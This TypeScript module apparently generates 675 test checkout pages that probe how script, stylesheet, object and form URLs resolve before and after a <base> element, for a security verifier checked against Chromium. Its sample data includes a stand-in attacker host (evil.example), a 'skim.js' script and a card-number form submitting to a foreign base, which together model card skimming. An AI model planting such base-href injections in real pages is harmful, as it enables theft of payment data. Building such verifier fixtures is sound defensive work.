/**
 * The family behind F-10's other half: a URL the parser meets before the effective <base>. A fetch
 * that starts at once (a script, a stylesheet, an object's document) resolves against the page URL,
 * because the base element is not in the tree yet; a later use (a submission) resolves against the
 * base. Found by the Chromium sample property: `<object data=//host/x>` at the top of a page whose
 * <base> came later was fetched through the page URL, while the verifier read it only through the base.
 *
 * Pages are built from fetching markup × URL spellings × bases × where the base stands; shared by
 * the verifier's generated variants and the Chromium oracle over the same space.
 */

/** Markup that fetches (or submits to) {U}, with the finding kind the verifier gives it. */
export const FETCHES: readonly { readonly kind: string; readonly markup: string }[] = [
  { kind: 'script', markup: '<script src="{U}"></script>' },
  { kind: 'stylesheet', markup: '<link rel="stylesheet" href="{U}">' },
  { kind: 'module-preload', markup: '<link rel="modulepreload" href="{U}">' },
  { kind: 'image', markup: '<img src="{U}" alt="">' },
  { kind: 'frame', markup: '<iframe title="x" src="{U}"></iframe>' },
  { kind: 'object', markup: '<object data="{U}" width="10" height="10"></object>' },
  { kind: 'object', markup: '<embed src="{U}" width="10" height="10">' },
  { kind: 'script', markup: '<svg width="1" height="1"><script href="{U}"></script></svg>' },
  { kind: 'form-action', markup: '<form action="{U}" method="post"><input name="cardnumber"><button>Pay</button></form>' },
];

/** Spellings that resolve differently against the page URL and against a base. */
export const SPELLINGS: readonly string[] = ['skim.js', './pay/collect', '//evil.example/g', '/\\evil.example/g', '?step=2'];

/** Bases: same-origin (allowed) and foreign, absolute and scheme-relative. */
export const BASES: readonly string[] = ['/static/', 'https://evil.example/app/', '//cdn.shop.example/lib/'];

const DOCTYPE = '<!DOCTYPE html>\n<html lang="en">';

/**
 * Whole pages with the snippet {S} and the base {B}. `before` says whether the parser meets the
 * snippet before the base (the page-URL reading applies) or after it.
 */
export const PLACEMENTS: readonly { readonly name: string; readonly before: boolean; readonly page: string }[] = [
  { name: 'head, base after', before: true, page: `${DOCTYPE}<head><meta charset="utf-8"><title>Checkout</title>{S}<base href="{B}"></head><body><h1>Checkout</h1></body></html>` },
  { name: 'body, base later in body', before: true, page: `${DOCTYPE}<head><meta charset="utf-8"><title>Checkout</title></head><body><h1>Checkout</h1>{S}<p>Secure <base href="{B}"></p></body></html>` },
  { name: 'before the doctype', before: true, page: '{S}<!DOCTYPE html><html><head><meta charset="utf-8"><base href="{B}"><title>Checkout</title></head><body></body></html>' },
  { name: 'base first in head', before: false, page: `${DOCTYPE}<head><meta charset="utf-8"><base href="{B}"><title>Checkout</title></head><body><h1>Checkout</h1>{S}</body></html>` },
  { name: 'head, snippet after base', before: false, page: `${DOCTYPE}<head><meta charset="utf-8"><title>Checkout</title><base href="{B}">{S}</head><body></body></html>` },
];

export interface BaseReadingPage {
  readonly html: string;
  readonly fetch: (typeof FETCHES)[number];
  readonly spelling: string;
  readonly base: string;
  readonly placement: (typeof PLACEMENTS)[number];
}

export function baseReadingPage(fetch: BaseReadingPage['fetch'], spelling: string, base: string, placement: BaseReadingPage['placement']): BaseReadingPage {
  const html = placement.page.replace('{S}', fetch.markup.replace('{U}', spelling)).replace('{B}', base);
  return { html, fetch, spelling, base, placement };
}

/** Every page of the space (9 × 5 × 3 × 5 = 675). */
export function allBaseReadingPages(): BaseReadingPage[] {
  return FETCHES.flatMap((fetch) => SPELLINGS.flatMap((spelling) => BASES.flatMap((base) => PLACEMENTS.map((placement) => baseReadingPage(fetch, spelling, base, placement)))));
}
